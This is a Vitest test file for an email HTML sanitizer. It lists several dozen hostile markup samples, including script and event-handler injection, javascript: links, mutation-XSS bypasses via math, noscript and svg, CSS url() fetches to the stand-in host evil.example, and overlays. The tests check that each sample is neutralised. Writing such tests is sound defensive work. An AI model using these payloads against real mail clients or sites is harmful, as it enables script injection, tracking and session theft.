import { describe, expect, test } from 'vitest'
import { sanitizeMailHtml } from '../../../mail/sanitize'

const blocked = (html: string) => sanitizeMailHtml(html, { allowRemote: false })

/** Families of markup that ran, fetched or covered something in some mail program. Each must come out with none of it. */
const hostile: [family: string, html: string][] = [
  ['script', '<script>alert(1)</script>'],
  ['script with odd spacing', '<script\n src=https://evil.example/x.js></script\t>'],
  ['broken script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['event handler', '<img src=x onerror=alert(1)>'],
  ['event handler after a slash', '<img/src=x/onerror=alert(1)>'],
  ['event handler in capitals', '<BODY ONLOAD=alert(1)>'],
  ['event handler on an unknown element', '<x onclick=alert(1) tabindex=1>x</x>'],
  ['javascript link', '<a href="javascript:alert(1)">x</a>'],
  ['javascript link with a tab', '<a href="java\tscript:alert(1)">x</a>'],
  ['javascript link in entities', '<a href="&#106;&#97;vascript:alert(1)">x</a>'],
  ['javascript link after a control character', '<a href="\u0001javascript:alert(1)">x</a>'],
  ['vbscript link', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data link', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['svg', '<svg onload=alert(1)><script>alert(1)</script></svg>'],
  ['svg animate', '<svg><animate onbegin=alert(1) attributeName=x></svg>'],
  ['svg as a data image', '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">'],
  ['svg use', '<svg><use href="https://evil.example/x.svg#y"/></svg>'],
  ['math', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
  ['mutation by nested forms', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
  ['mutation by noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['mutation by title', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['template', '<template><img src=x onerror=alert(1)></template>'],
  ['comment that ends early', '<!--><img src=x onerror=alert(1)>-->'],
  ['conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'],
  ['processing instruction', '<?xml version="1.0"?><x onclick=alert(1)>'],
  ['CDATA', '<![CDATA[<script>alert(1)</script>]]>'],
  ['iframe', '<iframe src="https://evil.example"></iframe>'],
  ['iframe with srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object', '<object data="https://evil.example/x.swf"></object>'],
  ['embed', '<embed src="https://evil.example/x.swf">'],
  ['applet', '<applet code=x archive=https://evil.example/x.jar></applet>'],
  ['form', '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">go</button></form>'],
  ['base', '<base href="https://evil.example/">'],
  ['meta refresh', '<meta http-equiv=refresh content="0;url=https://evil.example">'],
  ['link', '<link rel=stylesheet href="https://evil.example/x.css">'],
  ['DNS prefetch', '<link rel=dns-prefetch href="//evil.example">'],
  ['style element', '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example)}</style>'],
  ['style url', '<p style="background:url(https://evil.example/x.gif)">x</p>'],
  ['style url in escapes', '<p style="background:\\75\\72\\6c(https://evil.example/x.gif)">x</p>'],
  ['style url with a comment', '<p style="background:u/**/rl(https://evil.example)">x</p>'],
  ['style image-set', '<p style="background-image:image-set(\'https://evil.example/x.png\' 1x)">x</p>'],
  ['style var into a fetch', '<p style="--x:url(https://evil.example);background:var(--x)">x</p>'],
  ['style expression', '<p style="width:expression(alert(1))">x</p>'],
  ['style binding', '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>'],
  ['style content', '<p style="content:url(https://evil.example)">x</p>'],
  ['style cursor', '<p style="cursor:url(https://evil.example),auto">x</p>'],
  ['style list image', '<ul style="list-style:url(https://evil.example)"><li>x</ul>'],
  ['style font face', '<p style="font:12px url(https://evil.example)">x</p>'],
  ['overlay', '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999">x</div>'],
  ['overlay by negative margin', '<div style="margin-top:-5000px">x</div>'],
  ['overlay by transform', '<div style="transform:translate(-50%)">x</div>'],
  ['background attribute', '<table background="https://evil.example/x.gif"><tr><td background="https://evil.example">x</table>'],
  ['srcset', '<img srcset="https://evil.example/x.gif 1x">'],
  ['picture', '<picture><source srcset="https://evil.example/x"><img src="https://evil.example/y"></picture>'],
  ['video poster', '<video poster="https://evil.example/x.gif" src="https://evil.example/x.mp4"></video>'],
  ['audio', '<audio src="https://evil.example/x.mp3" autoplay></audio>'],
  ['track', '<video><track src="https://evil.example/x.vtt"></video>'],
  ['input image', '<input type=image src="https://evil.example/x.gif">'],
  ['bgsound', '<bgsound src="https://evil.example/x.wav">'],
  ['lowsrc and dynsrc', '<img lowsrc="https://evil.example/x" dynsrc="https://evil.example/y">'],
  ['ping', '<a href="https://ok.example" ping="https://evil.example">x</a>'],
  ['manifest', '<html manifest="https://evil.example/x"><p>x</html>'],
  ['protocol-relative image', '<img src="//evil.example/x.gif">'],
  ['image over another scheme', '<img src="ftp://evil.example/x.gif">'],
  ['id that clobbers', '<a id=location name=location>x</a>'],
  ['class of the product', '<div class="fixed inset-0 z-50">x</div>'],
]

describe('hostile markup', () => {
  test.each(hostile)('%s does nothing', (_family, html) => {
    const { html: safe } = blocked(html)
    expect(safe).not.toMatch(/evil\.example|javascript|vbscript|<(?:script|style|svg|math|iframe|object|embed|form|input|button|link|meta|base|template|video|audio|picture|source)/i)
    expect(safe).not.toMatch(/\son\w+\s*=|url\s*\(|position|expression|\b(?:id|class|name|ping|srcset|background)\s*=/i)
  })
  test.each(hostile)('%s stays harmless when cleaned twice', (_family, html) => {
    const once = blocked(html).html.replaceAll(' data-blocked', '')
    expect(blocked(once).html).toBe(once)
  })
})

describe('ordinary mail keeps its looks', () => {
  test('text, tables and colours', () => {
    const html = '<table width="600" bgcolor="#eeeeee"><tbody><tr><td align="center" style="color:#333333;font-family:Arial, sans-serif;padding:10px 20px"><b>Hello</b><br />World</td></tr></tbody></table>'
    expect(blocked(html).html).toBe(html)
  })
  test('a link opens elsewhere and tells nothing', () => {
    expect(blocked('<a href="https://example.com/a?b=c">x</a>').html).toBe('<a href="https://example.com/a?b=c" target="_blank" rel="noopener noreferrer nofollow" referrerpolicy="no-referrer">x</a>')
  })
  test('a mailto link stays', () => expect(blocked('<a href="mailto:a@example.com">x</a>').html).toContain('href="mailto:a@example.com"'))
  test('the text of an unknown element stays', () => expect(blocked('<o:p>kept</o:p>').html).toBe('kept'))
})

describe('images', () => {
  test('inside the mail become placeholders with their Content-ID', () => expect(blocked('<img src="cid:logo%40example.com" alt="Logo">').html).toContain('data-cid="logo@example.com"'))
  test('of remote places are counted and left out', () => {
    const { html, blockedRemote } = blocked('<img src="https://t.example/1.gif"><IMG SRC=http://t.example/2.gif>')
    expect(blockedRemote).toBe(2)
    expect(html).not.toContain('t.example')
  })
  test('of remote places are named for the proxy once they are allowed, but never loaded directly', () => {
    const { html, blockedRemote } = sanitizeMailHtml('<img src="https://t.example/1.gif">', { allowRemote: true })
    expect(blockedRemote).toBe(0)
    expect(html).toContain('data-remote="https://t.example/1.gif"')
    expect(html).not.toMatch(/\ssrc=/)
  })
  test('within the markup stay when they are pictures', () => expect(blocked('<img src="data:image/png;base64,AAAA">').html).toContain('src="data:image/png;base64,AAAA"'))
})

test('five thousand nested elements are cleaned to the last', () => {
  expect(blocked(`${'<div>'.repeat(5000)}deep`).html).toContain('deep')
})
